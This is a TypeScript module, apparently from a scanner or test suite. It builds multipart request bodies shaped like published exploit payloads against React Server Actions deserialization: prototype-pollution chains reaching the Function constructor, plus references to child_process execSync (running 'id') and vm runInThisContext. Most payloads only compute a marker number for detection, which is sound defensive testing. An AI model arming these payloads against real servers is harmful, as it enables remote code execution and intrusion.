/** What ran would have left in the answer: the product of two numbers that stand in no probe. */
export const marker = String(7 * 10_007 * 1_009);
const computes = `String(7*10007*1009)`;

/** Bodies of invented Server Actions, in the shapes that were published; they only compute {@link marker}. */
export function actionBodies(): readonly string[] {
  const part = (name: string, value: string) =>
    `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  const form = (...parts: readonly string[]) => `${parts.join('')}--x--\r\n`;
  const model = (then: string, response: string) =>
    `{"then":"${then}","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":${response}}`;
  const prefix = `throw Object.assign(new Error('x'),{digest:${computes}});`;
  return [
    form(
      part(
        '0',
        model(
          '$1:__proto__:then',
          `{"_prefix":"${prefix}","_chunks":"$Q2","_formData":{"get":"$1:constructor:constructor"}}`,
        ),
      ),
      part('1', '"$@0"'),
      part('2', '[]'),
    ),
    form(
      part('0', model('$1:then', `{"_prefix":"${prefix}","_formData":{"get":"$1:then:constructor"}}`)),
      part('1', '"$@0"'),
    ),
    form(part('0', '["$1:a:a"]'), part('1', '{}')),
    form(part('0', '["$F1"]'), part('1', '{"id":"child_process#execSync","bound":["id"]}')),
    form(
      part('$ACTION_REF_0', ''),
      part('$ACTION_0:0', '{"id":"vm#runInThisContext","bound":"$@1"}'),
      part('$ACTION_0:1', `["${computes}"]`),
    ),
    form(part('$ACTION_ID_x', ''), part('$ACTION_KEY', 'k')),
    form(part('0', '"$K1"'), part('1_', '"$@0"')),
    form(part('0', '"$@0"')),
    form(part('0', `[${'"$@1",'.repeat(200)}0]`), part('1', '"$@0"')),
    form(part('0', '"$n99999999999999999999999999999999999"')),
    form(
      part('0', '["$A1","$O1","$o1","$U1","$S1","$s1","$L1","$l1","$G1","$g1","$M1","$m1","$V1"]'),
      part('1', 'AAAAAAAA'),
    ),
    form(part('0', '"$W1"'), part('1', '[[["a","a"]]]')),
    form(part('0', '"$r1"'), part('1', 'x'.repeat(500))),
    '["$undefined",{"a":"$1:b"}]',
    `[${'['.repeat(400)}${']'.repeat(400)}]`,
  ];
}
